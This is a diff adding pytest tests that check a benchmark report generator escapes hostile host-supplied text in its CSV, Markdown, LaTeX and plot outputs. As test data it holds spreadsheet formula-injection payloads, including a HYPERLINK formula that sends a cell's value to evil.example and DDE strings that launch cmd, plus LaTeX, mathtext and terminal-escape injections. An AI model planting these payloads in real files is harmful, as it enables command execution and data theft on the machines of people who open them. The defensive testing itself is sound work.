@@ -11,10 +11,13 @@ import pytest
 
 from ansible_collections.specdec.bench.plugins.module_utils._common import results_file
 from ansible_collections.specdec.bench.plugins.plugin_utils import report as report_utils
+from ansible_collections.specdec.bench.plugins.plugin_utils import report_plots
 from ansible_collections.specdec.bench.plugins.plugin_utils.report import generate
+from ansible_collections.specdec.bench.plugins.plugin_utils.report_render import TEX_TEXT, csv_cell
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 import synthetic_results as synth  # noqa: E402  pylint: disable=wrong-import-position
+from report_helpers import TEX_DOCUMENT, TEX_DOCUMENT_OT1, compile_tex, csv_rows  # noqa: E402  pylint: disable=wrong-import-position
 
 OUTPUTS = ['report.md', 'report.tex', 'results-categories.csv', 'results-repeats.csv', 'results.csv', 'results.json']
 # The result file of the run at c=4 of a campaign without datasets (random prompts, temperature 0), as the layout names it.
@@ -182,3 +185,129 @@ def test_a_stage_folder_name_from_a_host_is_escaped(tmp_path):
     generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
     md = (out / 'report.md').read_text()
     assert 'x\\`&lt;b&gt;\\|y' in md and '<b>' not in md
+
+
+# Issue 29: text from a host that a spreadsheet, matplotlib, pdflatex or a Markdown renderer with math would act on.
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+GPU_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0"
+VERSION_FORMULA = "-2+3+cmd|' /C calc'!A0"
+METHOD_FORMULA = '=1+2'
+FORMULA_START = ('=', '+', '-', '@', '\t', '\r')
+NUMBER_RE = re.compile(r'^[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?$')
+
+
+def hostile_campaign(root, campaign, seed, method=METHOD_FORMULA, host='ct200', **options):
+    """One host's campaign of repeats over Spec-Bench (so every CSV has rows), DFlash's method renamed to method."""
+    matrix = [(1, 'autoregressive', {}), (1, 'dflash', {'num_draft_tokens': 16}), (1, 'ddtree', {'budget': 16, 'topk': 4})]
+    synth.make_campaign(root, host, campaign, matrix, concurrency=(1, 4), num_prompts=6, datasets=['spec-bench'], repeats=2,
+                        seed=seed, **options)
+    folder = root / host / campaign
+    edit_json(folder / 'campaign.json', set_stage(1, 'method', method))
+    return folder
+
+
+def test_text_that_a_spreadsheet_would_run_is_neutralized_in_every_csv(tmp_path):
+    root = tmp_path / 'results'
+    hostile_campaign(root, 'c-before', seed=11)
+    folder = hostile_campaign(root, 'c', seed=3)
+    edit_json(folder / 'tp1-ddtree-b16-k4' / 'status.json', lambda doc: dict(doc, status='failed', reason=HYPERLINK))
+    edit_json(folder / 'tp1-dflash-n16' / 'gpus.json', lambda doc: dict(
+        doc, nvidia_driver=dict(doc['nvidia_driver'], version='+1+1'),
+        nvidia_gpus=[dict(gpu, name=GPU_FORMULA) for gpu in doc['nvidia_gpus']]))
+    edit_json(folder / 'tp1-dflash-n16' / 'server_info.json', lambda doc: dict(doc, version=VERSION_FORMULA))
+    out = tmp_path / 'out'
+    made = generate(str(root), 'c', str(out), synth.LAYOUT, plots=False, compare_to='c-before')
+    assert made['skipped_files'] == []
+    tables = {name: csv_rows(out / name) for name in ('results.csv', 'results-repeats.csv', 'results-categories.csv',
+                                                       'compare-c-before.csv')}
+    numbers = []
+    for name, rows in tables.items():
+        assert rows, name
+        assert any(row['setting'] == "'=1+2 n=16" for row in rows), name  # the method's text, in each file's setting
+        for row in rows:
+            for key, cell in row.items():
+                if cell.startswith(FORMULA_START):  # only a plain number may start as a formula does
+                    assert NUMBER_RE.match(cell), (name, key, cell)
+                    numbers.append(float(cell))
+    assert any(number < 0 for number in numbers)  # negative numbers (compare's deltas) are still numbers
+    rows = dict(((row['stage'], row['concurrency']), row) for row in tables['results.csv'])
+    assert rows[('tp1-ddtree-b16-k4', '1')]['reason'] == "'" + HYPERLINK
+    dflash = rows[('tp1-dflash-n16', '1')]
+    assert (dflash['gpu_name'], dflash['driver'], dflash['sglang_version']) == ("'" + GPU_FORMULA, "'+1+1", "'" + VERSION_FORMULA)
+    assert dflash['method'] == "'" + METHOD_FORMULA
+
+
+
+@pytest.mark.parametrize(('value', 'cell'), [
+    (-0.5, -0.5), (-3, -3), ('-3', '-3'), ('+1.5e3', '+1.5e3'), ('-.5', '-.5'),  # numbers, and text that is one number
+    ('-2+3', "'-2+3"), ('+1+1', "'+1+1"), ('-inf', "'-inf"), ('-', "'-"), ('@x', "'@x"), ('=1', "'=1"),
+    ('\t=1', "'\t=1"), ('\r=1', "'\r=1"), (' =1', ' =1'), ('ok', 'ok'), (None, ''), (True, 'true'), (False, 'false'),
+])
+def test_a_csv_cell_is_neutralized_when_text_and_never_when_a_number(value, cell):
+    assert csv_cell(value) == cell and type(csv_cell(value)) is type(cell)  # pylint: disable=unidiomatic-typecheck
+
+
+MATH = r'$\undefinedmacro$'
+
+
+def test_a_dollar_in_host_text_is_plain_text_in_every_plot(tmp_path, monkeypatch):
+    """A method and a host named with mathtext: matplotlib raised ValueError on them and no file was written."""
+    from matplotlib.text import Text  # pylint: disable=import-outside-toplevel
+    root = tmp_path / 'results'
+    host = 'ct' + MATH
+    hostile_campaign(root, 'c', seed=3, method='dflash' + MATH, host=host, energy=True)
+    texts, real_png = [], report_plots._png  # pylint: disable=protected-access
+
+    def png(figure):
+        data = real_png(figure)  # drawn first: the tick labels and the legend's texts exist only then
+        texts.extend((text.get_text(), text.get_parse_math(), text.get_usetex()) for text in figure.findobj(Text))
+        return data
+    monkeypatch.setattr(report_plots, '_png', png)
+    made = generate(str(root), 'c', str(tmp_path / 'out'), synth.LAYOUT)
+    pngs = [name for name in made['files'] if name.endswith('.png')]
+    assert len(pngs) >= 4 and made['plots_skipped'] is None
+    shown = [text for text, _parse, _usetex in texts]
+    assert any(text.startswith('dflash' + MATH) for text in shown)  # a legend label
+    assert any(host in text for text in shown)  # a title
+    assert [item for item in texts if '$' in item[0] and (item[1] or item[2])] == []
+
+
+# A right-to-left override, an emoji, a terminal escape, NUL, BEL and DEL; an isolate, a zero-width space, CJK.
+THROTTLE_REASON = 'sw_power_cap\u202e\U0001f525\x1b[31m\x00\x07\x7f'
+METHOD_UNSETTABLE = 'dflash\u2066\u200b\U0001f680\u663e\u5361 é'
+
+
+def test_report_tex_compiles_with_control_bidi_and_emoji_in_host_text(tmp_path):
+    """pdflatex stopped on each of these ("Unicode character not set up", "invalid character"): each is now written
+    as Python's ascii() writes it, and report.tex compiles in T1 and in article's default OT1."""
+    root = tmp_path / 'results'
+    folder = hostile_campaign(root, 'c', seed=3, method=METHOD_UNSETTABLE, energy=True, throttled={'tp1-dflash-n16': [(1, 2)]})
+    name = synth.REPEAT_LAYOUT['result'].format(dataset='spec-bench', temperature='0', concurrency=1, repeat=2)
+    edit_json(folder / 'tp1-dflash-n16' / name, lambda doc: dict(doc, gpu_throttled=[THROTTLE_REASON]))
+    out = tmp_path / 'out'
+    made = generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
+    assert made['skipped_files'] == []
+    for encoding, document in (('t1', TEX_DOCUMENT), ('ot1', TEX_DOCUMENT_OT1)):
+        (tmp_path / encoding).mkdir()
+        compile_tex(out / 'report.tex', tmp_path / encoding, document=document)
+    tex = (out / 'report.tex').read_text(encoding='utf-8')
+    assert r'sw\_power\_cap\textbackslash{}u202e\textbackslash{}U0001f525\textbackslash{}x1b[31m\textbackslash{}x00' in tex
+    assert r'dflash\textbackslash{}u2066\textbackslash{}u200b\textbackslash{}U0001f680\textbackslash{}u663e\textbackslash{}u5361 é' in tex
+    assert sorted(set(char for char in tex if char not in TEX_TEXT)) == ['\n']
+
+
+def test_a_dollar_from_a_host_is_no_math_in_report_md(tmp_path):
+    """GitHub renders $...$ in a Markdown file as math (MathJax): text from a host could set formulas, colours or
+    hide words in report.md. _md_code sends text with a $ to md_escape, which left the $ as it was."""
+    root = tmp_path / 'results'
+    folder = hostile_campaign(root, 'c', seed=3, method='dflash' + MATH)
+    (folder / 'tp9-$x$').mkdir()  # a stage folder the plan does not name: _md_code
+    edit_json(folder / 'tp1-ddtree-b16-k4' / 'status.json', lambda doc: dict(
+        doc, status='failed', reason=r'costs $\color{red}{\text{nothing}}$ and $$x^2$$'))
+    edit_json(folder / 'tp1-dflash-n16' / 'server_info.json', lambda doc: dict(doc, version='$0.5$'))
+    out = tmp_path / 'out'
+    generate(str(root), 'c', str(out), synth.LAYOUT, plots=False)
+    md = (out / 'report.md').read_text()
+    assert '$' not in md
+    assert r'costs &#36;\\color{red}{\\text{nothing}}&#36; and &#36;&#36;x^2&#36;&#36;' in md
+    assert r'dflash&#36;\\undefinedmacro&#36;' in md and '&#36;0.5&#36;' in md and 'tp9-&#36;x&#36;' in md
